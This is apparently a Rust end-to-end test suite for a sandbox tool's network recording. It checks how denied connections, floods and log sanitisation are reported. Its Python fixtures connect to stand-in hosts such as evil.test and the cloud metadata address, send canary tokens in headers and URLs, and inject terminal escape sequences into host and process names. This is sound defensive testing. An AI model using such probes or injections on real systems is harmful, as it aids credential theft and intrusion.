//! What is recorded about the network, and shown.

use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use whatif_e2e::outside::{METADATA, Outside, PRELUDE, PRIVATE, PUBLIC};
use whatif_e2e::{World, eventually, outside_as_root_and_user, wait_for};

outside_as_root_and_user!(
    decisions_are_shown,
    a_run_reports_what_it_was_denied,
    what_is_allowed_is_not_taken_away_by_the_advice,
    a_run_without_denials_says_nothing_of_them,
    decisions_can_be_followed,
    what_is_not_there_is_said,
    hostile_names_do_not_reach_the_terminal,
    a_flood_does_not_fill_the_disk,
    a_flood_is_collapsed_and_hides_nothing,
    requests_are_not_recorded_word_by_word,
);

fn keep(w: &World, name: &str, net: &str, program: &str) -> whatif_e2e::Outcome {
    let program = format!("{PRELUDE}\n{program}");
    w.whatif(["run", "--keep", "--name", name, "--net", net, "--", "/usr/bin/python3", "-c", &program]).go()
}

/// Who, where to, what was decided, how much.
fn decisions_are_shown(w: &World, o: &Outside) {
    o.name("shop.test", &[PUBLIC]);
    o.name("inner.test", &[PRIVATE]);
    o.http(PUBLIC, 80);
    // One that is over in no time may be gone before anybody could ask whose it was.
    let program = format!(
        r#"
with socket.create_connection(('shop.test', 80)) as s:
    s.sendall(b'GET / HTTP/1.1\r\nHost: shop.test\r\n\r\n'); s.recv(4096)
    time.sleep(2)
hello('evil.test', 5432); hello('{METADATA}', 80); hello('inner.test', 80)
"#
    );
    keep(w, "seen", "allow=shop.test,inner.test", &program).ok();

    let allowed = o.decision(w, "seen", "shop.test", 80);
    assert_eq!((&allowed["allowed"], allowed["address"].as_str()), (&true.into(), Some(PUBLIC)), "{allowed}");
    assert!(allowed["who"]["program"].as_str().is_some_and(|program| program.contains("python3")), "{allowed}");
    assert!(allowed["because"].as_str().is_some_and(|because| because.contains("shop.test")), "{allowed}");
    assert!(allowed["sent"].as_u64() >= Some(30) && allowed["received"].as_u64() >= Some(40), "{allowed}");
    assert_eq!(allowed["is_open"], false);

    let denied = o.decision(w, "seen", "evil.test", 5432);
    assert_eq!((&denied["allowed"], denied["hint"].as_str()), (&false.into(), Some("--net allow=evil.test:5432")), "{denied}");
    let metadata = o.decision(w, "seen", METADATA, 80);
    assert_eq!((&metadata["allowed"], metadata["hint"].as_str()), (&false.into(), None), "nobody is told to open that: {metadata}");
    let inner = o.decision(w, "seen", "inner.test", 80);
    assert!(inner["allowed"] == false && inner["because"].as_str().is_some_and(|because| because.contains(PRIVATE)), "{inner}");

    let text = w.whatif(["net", "seen"]).go().ok().stdout;
    for part in ["shop.test:80", "evil.test:5432", "169.254.169.254:80", "inner.test:80", "python3", "allowed", "denied"] {
        assert!(text.contains(part), "{part} is missing:\n{text}");
    }
}

fn a_run_reports_what_it_was_denied(w: &World, _: &Outside) {
    let program = "[hello('db.internal', 5432) for _ in range(3)]; hello('evil.test', 80); sys.exit(3)";
    let outcome = keep(w, "report", "allow=shop.test", program).exits(3);
    // A reset that comes before the client has looked makes it try the next address of the name, too.
    let count = |n: usize| outcome.stderr.contains(&format!("{n} connections denied"));
    assert!((4..=8).any(count), "{}", outcome.stderr);
    let parts = ["db.internal:5432, evil.test:80", "--net allow=db.internal:5432,evil.test", "whatif net allow report"];
    for part in parts {
        assert!(outcome.stderr.contains(part), "{part} is missing:\n{}", outcome.stderr);
    }
}

fn a_run_without_denials_says_nothing_of_them(w: &World, o: &Outside) {
    o.name("shop.test", &[PUBLIC]);
    o.http(PUBLIC, 80);
    let outcome = keep(w, "fine", "allow=shop.test", "hello('shop.test', 80)").ok();
    assert!(!outcome.stderr.contains("denied"), "{}", outcome.stderr);
}

fn decisions_can_be_followed(w: &World, o: &Outside) {
    w.whatif(["new", "watched", "--net", "allow=shop.test"]).go().ok();
    o.hello_in(w, "watched", "before.test", 80);
    let output = w.write("followed", "");
    let file = || std::fs::File::options().append(true).open(&output).expect("it is ours");
    let call = w.whatif(["net", "-f", "watched"]);
    let mut following = call.streams(std::process::Stdio::null(), file().into(), file().into()).spawn();
    eventually("what was is shown", || w.read("followed").contains("before.test:80"));
    o.hello_in(w, "watched", "after.test", 80);
    let shown = wait_for(Duration::from_secs(60), || w.read("followed").contains("after.test:80").then_some(()));
    let _ = following.kill();
    let _ = following.wait();
    assert!(shown.is_some(), "{}", w.read("followed"));
}

fn what_is_not_there_is_said(w: &World, o: &Outside) {
    w.whatif(["net", "nobody"]).go().fails_with_hint(125).says("nobody");
    w.whatif(["new", "quiet", "--net", "allow=shop.test"]).go().ok();
    assert_eq!(o.decisions(w, "quiet"), Vec::<serde_json::Value>::new());
    w.whatif(["net", "quiet"]).go().ok();
    for net in ["none", "host"] {
        w.whatif(["new", net, "--net", net]).go().ok();
        let outcome = w.whatif(["net", net]).go();
        assert!([outcome.stdout, outcome.stderr].concat().contains(net), "it says which network that is");
        w.whatif(["net", "allow", net, "shop.test"]).go().fails_with_hint(2);
    }
    w.whatif(["net", "allow", "quiet", "a..b"]).go().exits(2).says("a..b");
}

/// Control characters in names of hosts, paths of requests, and names of programs.
fn hostile_names_do_not_reach_the_terminal(w: &World, _: &Outside) {
    let program = r#"
import ctypes, urllib.parse
ctypes.CDLL(None).prctl(15, b'\x1b[31mred\n\r\x07', 0, 0, 0)
proxy = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])
odd = b'\x1b]0;title\x07\x1b[2J\r\n'
hello('evil.test', 80)
talk('evil.test', 80, b'GET /\x1b[2J HTTP/1.1\r\nHost: shop.test\r\n\r\n')
talk('evil.test', 80, b'GET / HTTP/1.1\r\nHost: \x1b[2Jshop.test\r\n\r\n')
for name in (odd, b'evil' + odd, b'\xc2\x9b31m.test', b'\xe2\x80\xae.test'):
    for request in (b'CONNECT ' + name + b':80 HTTP/1.1\r\n\r\n', b'\x05\x01\0\x05\x01\0\x03' + bytes([len(name)]) + name + b'\0\x50'):
        talk(proxy.hostname, proxy.port, request, seconds=5)
    label = bytes([len(name)]) + name + b'\x04test\0'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    try: s.sendto(b'\x47\x11\x01\0\0\x01\0\0\0\0\0\0' + label + b'\0\x01\0\x01', ('127.0.0.53', 53)); s.recv(100)
    except OSError: pass
os.symlink('/usr/bin/python3', '/tmp/py\x1b[31m\n')
os.system("'/tmp/py\x1b[31m\n' -c \"import socket; socket.create_connection(('evil2.test', 80))\"")
"#;
    let outcome = keep(w, "odd", "allow=http://shop.test/x", program);
    let shown = w.whatif(["net", "odd"]).go().ok();
    assert!(shown.stdout.contains("evil.test:80") && shown.stdout.contains("evil2.test:80"), "{}", shown.stdout);
    for text in [outcome.stderr, shown.stdout, shown.stderr] {
        let raw: Vec<char> = text.chars().filter(|c| (c.is_control() && *c != '\n' && *c != '\t') || *c == '\u{202e}').collect();
        assert!(raw.is_empty(), "{raw:?} in {text}");
    }
}

/// The same thing over and over is counted; what happens once is seen.
fn a_flood_is_collapsed_and_hides_nothing(w: &World, o: &Outside) {
    o.name("shop.test", &[PUBLIC]);
    o.http(PUBLIC, 80);
    let program = format!(
        r#"
for n in range(1000):
    s = socket.socket(); s.settimeout(10)
    try: s.connect(('{PRIVATE}', 4444)); s.recv(1)
    except OSError: pass
    s.close()
hello('late.test', 80)
hello('shop.test', 80)
"#
    );
    let outcome = keep(w, "flood", "allow=shop.test", &program).ok();
    assert!(outcome.stderr.contains("connections denied"), "{}", outcome.stderr);
    let shown = w.json(["net", "flood"]);
    let decisions = shown["decisions"].as_array().expect("a list");
    let flood: Vec<_> = decisions.iter().filter(|d| d["host"] == PRIVATE).collect();
    let times: u64 = flood.iter().map(|d| d["repeats"].as_u64().unwrap_or(0).max(1)).sum();
    assert!(flood.len() < 400, "{} lines", flood.len());
    assert_eq!((times, shown["omitted"].as_u64()), (1000, Some(0)));
    assert_eq!(o.decision(w, "flood", "late.test", 80)["allowed"], false);
    assert_eq!(o.decision(w, "flood", "shop.test", 80)["allowed"], true);
    assert!(w.whatif(["net", "flood"]).go().ok().stdout.contains("denied x"));
}

/// As many names as one likes: what is kept of them has an end.
fn a_flood_does_not_fill_the_disk(w: &World, o: &Outside) {
    let program = r#"
import struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.01)
for n in range(20000):
    label = f'{n:060}'.encode()
    query = struct.pack('>HHHHHH', n & 65535, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in (label, label, label, b'test')) + b'\0\0\1\0\1'
    try: s.sendto(query, ('127.0.0.53', 53)); n % 64 or s.recv(512)
    except OSError: pass
for n in range(200): hello(f'flood{n}.test', 80)
"#;
    keep(w, "flood", "allow=shop.test", program).ok();
    let directory = w.directory("flood").join("network");
    let size: u64 =
        std::fs::read_dir(&directory).expect("it is there").flatten().filter_map(|e| e.metadata().ok()).map(|m| m.len()).sum();
    assert!(size < 8 << 20, "{size} bytes");
    assert!(!o.decisions(w, "flood").is_empty());
    w.whatif(["net", "flood"]).go().ok();
    assert!(o.asked().is_empty());
}

/// LK-05: what stands behind the name of a host is nobody's business, and often a key.
fn requests_are_not_recorded_word_by_word(w: &World, o: &Outside) {
    o.name("shop.test", &[PUBLIC]);
    o.http(PUBLIC, 80);
    let secret = "canary-5ec2e7";
    let program = format!(
        r#"
for host in ('shop.test', 'evil.test'):
    talk(host, 80, f'GET /?token={secret} HTTP/1.1\r\nHost: {{host}}\r\nAuthorization: Bearer {secret}\r\nCookie: {secret}\r\n\r\n'.encode())
    talk(host, 80, f'GET http://user:{secret}@{{host}}/ HTTP/1.1\r\nHost: {{host}}\r\n\r\n'.encode())
    talk(host, 5432, b'{secret}')
"#
    );
    w.write("program.py", format!("{PRELUDE}\n{program}"));
    let run = ["run", "--keep", "--name", "words", "--net", "allow=shop.test", "--", "/usr/bin/python3", "program.py"];
    let outcome = w.whatif(run).go().ok();
    let shown = [outcome.stderr, w.whatif(["net", "words"]).go().ok().stdout, w.json(["net", "words"]).to_string()].concat();
    assert!(shown.contains("evil.test:5432") && !shown.contains(secret), "{shown}");
    // A copy of the project has the program in it.
    let found = w.outside(&format!("grep -rla {secret} {} 2>/dev/null | grep -v /head/0/program.py; true", w.state.display())).ok();
    assert_eq!(found.text(), "", "it is on disk");
    for entry in std::fs::read_dir(w.directory("words").join("network")).expect("it is there").flatten() {
        let meta = entry.metadata().expect("it is there");
        let mode = meta.permissions().mode() & 0o777;
        assert!(!meta.is_file() || mode & 0o177 == 0, "{} is {mode:o}", entry.path().display());
    }
}

/// A `--net` stands for itself: whoever adds one to the default must name the default too.
fn what_is_allowed_is_not_taken_away_by_the_advice(w: &World, _: &Outside) {
    let program = format!("{PRELUDE}\nhello('evil.test', 80)");
    let outcome = w.whatif(["run", "--", "/usr/bin/python3", "-c", &program]).go();
    outcome.says("to allow: --net registries --net allow=evil.test");
}
